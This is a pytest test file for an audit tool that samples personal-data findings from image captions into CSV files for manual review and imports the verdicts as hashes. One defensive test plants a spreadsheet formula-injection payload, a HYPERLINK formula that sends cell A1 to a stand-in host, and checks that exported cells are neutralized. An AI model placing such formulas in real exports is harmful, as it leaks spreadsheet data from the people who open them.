"""Reviewing findings by hand: a sample is drawn, its marks come back without any text."""

from __future__ import annotations

import csv
import re
import stat
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from audit import review


@pytest.fixture
def places(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sample_warehouse: Path) -> Path:
    """The review's folder and seed in a place of the test's own."""
    monkeypatch.setenv("AUDIT_DATABASE", str(sample_warehouse))
    monkeypatch.setattr(review, "FOLDER", tmp_path / "review")
    monkeypatch.setattr(review, "SEED", tmp_path / "reviewed_findings.csv")
    return tmp_path


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def write(path: Path, rows: list[dict[str, str]], delimiter: str = ",", encoding: str = "utf-8"):
    with path.open("w", encoding=encoding, newline="", errors="replace") as file:
        writer = csv.DictWriter(file, rows[0].keys(), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)


def mark(path: Path, verdicts: list[str]) -> list[dict]:
    rows = read(path)
    for row, verdict in zip(rows, verdicts, strict=True):
        row["verdict"] = verdict
    write(path, rows)
    return rows


def test_marks_come_back_without_text(places: Path) -> None:
    path = review.sample("sample", "email", "caption", 10, seed=1)
    assert not stat.S_IMODE(path.stat().st_mode) & 0o077
    rows = mark(path, ["right"] * 7 + ["wrong"] * 2 + [""])
    assert all(row["value"] and row["value"] in row["caption"] for row in rows)
    assert review.import_marks("sample", [path]) == 9
    seed = review.SEED.read_text(encoding="utf-8")
    assert seed.startswith("rule,field,image_id,value_hash,verdict\n")
    assert seed.count("right") == 7
    assert not any(row["value"] in seed or row["caption"] in seed for row in rows)
    # Each mark belongs to what it was given for, and the newer one wins.
    expected = {(row["image_id"], row["value_hash"], row["verdict"]) for row in rows[:9]}
    with review.SEED.open(encoding="utf-8", newline="") as file:
        found = {tuple(row[2:]) for row in csv.reader(file)}
    assert found - {("image_id", "value_hash", "verdict")} == expected
    mark(path, ["unclear"] * 10)
    assert review.import_marks("sample", [path]) == 10
    assert review.SEED.read_text(encoding="utf-8").count("unclear") == 10


@pytest.mark.parametrize(
    ("delimiter", "encoding"),
    [(";", "utf-8-sig"), (";", "cp1252"), (",", "utf-8-sig"), ("\t", "utf-16")],
)
def test_marks_come_back_from_a_spreadsheet(places: Path, delimiter: str, encoding: str) -> None:
    """It has its own separator and encoding, and makes 1.44992E+18 of an image_id."""
    path = review.sample("sample", "person_name", None, 20, seed=1)
    plain = mark(path, ["right"] * 20)
    review.import_marks("sample", [path])
    expected = review.SEED.read_text(encoding="utf-8")
    review.SEED.unlink()
    write(path, [row | {"image_id": "1,44992E+18"} for row in plain], delimiter, encoding)
    assert review.import_marks("sample", [path]) == 20
    assert review.SEED.read_text(encoding="utf-8") == expected


def test_no_cell_is_a_formula(places: Path, sample_warehouse: Path, tmp_path: Path, monkeypatch):
    """Neither in a spreadsheet that splits at commas nor in one that splits at semicolons."""
    copy = tmp_path / sample_warehouse.name
    copy.write_bytes(sample_warehouse.read_bytes())
    text = '=HYPERLINK("https://x.example/?"&A1;"x");\t@SUM(1);-2+3,+49 171\n=1+1\r=1'
    with duckdb.connect(str(copy)) as connection:
        connection.execute(
            "update staging.stg_laion__images set caption = $text, url = '@x'",
            {"text": text},
        )
    monkeypatch.setenv("AUDIT_DATABASE", str(copy))
    path = review.sample("sample", "phone", None, 3, seed=1)
    content = path.read_bytes().decode()
    cells = [cell for row in csv.reader(content.splitlines(keepends=True)) for cell in row]
    cells += re.split(r"[;,\t\r\n]", content)
    assert len(cells) > 100
    assert [cell for cell in cells if cell.strip('"')[:1] in tuple("=+-@\t\r")] == []


def test_sample_is_seeded_and_keeps_marks(places: Path) -> None:
    path = review.sample("sample", "email", None, 5, seed=3)
    first = path.read_text(encoding="utf-8")
    with pytest.raises(SystemExit, match="import or delete it first"):
        review.sample("sample", "email", None, 5, seed=3)
    path.unlink()
    assert review.sample("sample", "email", None, 5, seed=3).read_text(encoding="utf-8") == first


def change(column: str, function: Callable[[str], str]) -> Callable[[Path], None]:
    """What makes the second of a file's rows wrong."""

    def spoil(path: Path) -> None:
        rows = mark(path, ["right", "right"])
        rows[1][column] = function(rows[1][column])
        write(path, rows)

    return spoil


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (change("verdict", lambda _: "maybe"), "row 3: a verdict is right, wrong or unclear"),
        (change("finding", lambda text: text[:-1]), "row 3: this warehouse has no such finding"),
        (change("finding", lambda _: ""), "row 3: this warehouse has no such finding"),
        (
            change("finding", lambda text: re.sub(r"\d{4}(/\w+)$", r"0000\1", text)),
            "row 3: this warehouse has no such finding",
        ),
        (lambda path: path.write_text("rule,verdict\niban,right\n"), "has no column finding"),
        (lambda path: path.write_text(""), "has no column finding and no column verdict"),
        (Path.unlink, "cannot be read"),
    ],
)
def test_wrong_marks_are_named(places: Path, spoil: Callable[[Path], None], message: str) -> None:
    path = review.sample("sample", "iban", "caption", 2, seed=1)
    spoil(path)
    with pytest.raises(SystemExit, match=message):
        review.import_marks("sample", [path])
    assert not review.SEED.exists()


def test_wrong_rule_and_an_audit_that_is_not_built_are_named(
    places: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(SystemExit, match="There is no rule 'telephone'"):
        review.sample("sample", "telephone", None, 2, seed=1)
    monkeypatch.setenv("AUDIT_DATABASE", str(tmp_path / "begun.duckdb"))
    with duckdb.connect(str(tmp_path / "begun.duckdb")) as connection:
        connection.execute("create schema intermediate")
        connection.execute("create table intermediate.hash_key (hash_key varchar)")
    with pytest.raises(SystemExit, match="make build"):
        review.sample("sample", "iban", None, 2, seed=1)
